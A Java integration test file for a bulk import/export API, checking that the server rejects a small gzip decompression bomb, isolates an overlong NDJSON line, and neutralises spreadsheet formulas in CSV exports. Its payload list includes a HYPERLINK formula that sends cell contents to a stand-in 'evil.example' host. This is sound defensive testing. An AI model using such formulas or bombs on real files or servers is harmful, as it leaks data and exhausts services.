package org.espalier.integration.bulk;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.zip.GZIPOutputStream;
import org.espalier.testing.Answer;
import org.espalier.testing.Client;
import org.espalier.testing.Tenant;
import org.junit.jupiter.api.Test;

/** Files that are made to hurt the server, or those who open what it exports. */
@QuarkusTest
class HostileFilesTest {

  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "=HYPERLINK(\\\"http://evil.example?\\\"&A1)",
          "+1",
          "-1",
          "-",
          "@SUM(A1)",
          "\\t=1",
          "\\r=1",
          "\\n=1",
          "\uFF1D1",
          "'=1",
          "''=1",
          "'");
  private static final List<String> PLAIN =
      List.of("'s-Hertogenbosch", "''", "a=1", "1-1", "x@y", "'a'", "\u00fc");

  private final Tenant tenant = Tenant.fresh();
  private final Client here = tenant.admin();
  private final Client there = Tenant.fresh().admin();

  @Test
  void bombIsNotUnpackedToItsEnd() throws IOException {
    byte[] blank = new byte[1 << 20];
    Arrays.fill(blank, (byte) ' ');
    ByteArrayOutputStream bomb = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(bomb)) {
      gzip.write("{\"externalId\":\"u\",\"name\":\"U\"}\n".getBytes(StandardCharsets.UTF_8));
      for (int i = 0; i < 80; i++) {
        gzip.write(blank);
        gzip.write('\n');
      }
    }
    assertTrue(bomb.size() < 100_000);
    Answer refused =
        here.with("Content-Encoding", "gzip")
            .sendRaw("POST", "/imports/org-units", "application/x-ndjson", bomb.toByteArray())
            .problem(413, "PAYLOAD_TOO_LARGE");
    assertTrue(refused.text("/detail").contains("100 times"), refused::body);
    assertEquals(0, here.get("/imports?count=exact").count("/totalCount"));
    assertEquals(0, here.get("/org-units?count=exact").count("/totalCount"));
  }

  @Test
  void lineWithoutEndFailsAlone() {
    String file =
        "{\"externalId\":\"a\",\"name\":\""
            + "x".repeat(3 << 20)
            + "\"}\n{\"externalId\":\"b\",\"name\":\"B\"}";
    Answer job =
        here.importFile(
            "org-units", "", "application/x-ndjson", file.getBytes(StandardCharsets.UTF_8));
    assertEquals(1, job.count("/counts/created"));
    assertEquals(1, job.count("/counts/failed"));
    Answer rows = here.get("/imports/" + job.id() + "/rows?outcome=failed");
    assertEquals("TOO_LONG", rows.text("/items/0/errors/0/code"));
  }

  @Test
  void spreadsheetsAreToldNoFormulas() {
    int key = 0;
    for (String name : FORMULAS) {
      here.create(
          "org-units", (key % 2 == 0 ? "=" : "-") + key++, "{name:'" + escaped(name) + "'}");
    }
    for (String name : PLAIN) {
      here.create("org-units", "k" + key++, "{name:'" + escaped(name) + "'}");
    }
    Answer file = here.with("Accept", "text/csv").get("/exports/org-units").expect(200);
    for (CsvRecord line : CsvReader.builder().ofCsvRecord(file.body())) {
      for (String cell : line.getFields()) {
        assertFalse(cell.matches("(?s)[=+@\\-\\t\\r\\n\uFF1D].*"), () -> "a formula: " + cell);
      }
    }
    assertTrue(
        file.body().contains("k" + FORMULAS.size() + ",default,'s-Hertogenbosch,"), file::body);
    there.importFile("org-units", "", "text/csv", file.body().getBytes(StandardCharsets.UTF_8));
    assertEquals(names(here), names(there));
    assertEquals(FORMULAS.size() + PLAIN.size(), names(there).size());
    Answer again =
        here.importFile("org-units", "", "text/csv", file.body().getBytes(StandardCharsets.UTF_8));
    assertEquals(again.count("/counts/received"), again.count("/counts/unchanged"));
  }

  @Test
  void emptyTextsStayEmpty() {
    here.create("activities", "a", "{title:'A', type:'COURSE', description:''}");
    here.create("activities", "b", "{title:'B', type:'COURSE', description:'\\u0027'}");
    here.create("activities", "c", "{title:'C', type:'COURSE'}");
    byte[] file =
        here.with("Accept", "text/csv")
            .get("/exports/activities")
            .expect(200)
            .body()
            .getBytes(StandardCharsets.UTF_8);
    assertEquals(3, here.importFile("activities", "", "text/csv", file).count("/counts/unchanged"));
    there.importFile("activities", "", "text/csv", file);
    assertEquals(
        here.get("/exports/activities").expect(200).lines(),
        there.get("/exports/activities").expect(200).lines());
    assertEquals("", there.get("/activities/by-external-id/a").text("/description"));
  }

  @Test
  void numbersStayNumbers() {
    here.create("activities", "a", "{title:'A', type:'COURSE', hours:1.5}");
    here.create("activities", "b", "{title:'-5', type:'COURSE'}");
    Answer file = here.with("Accept", "text/csv").get("/exports/activities").expect(200);
    assertTrue(file.body().contains(",1.5,"), file::body);
    assertTrue(file.body().contains("'-5"), file::body);
  }

  private static Set<String> names(Client client) {
    return new TreeSet<>(client.get("/exports/org-units").expect(200).lines());
  }

  /** An apostrophe as relaxed JSON has it. */
  private static String escaped(String text) {
    return text.replace("'", "\\u0027");
  }
}
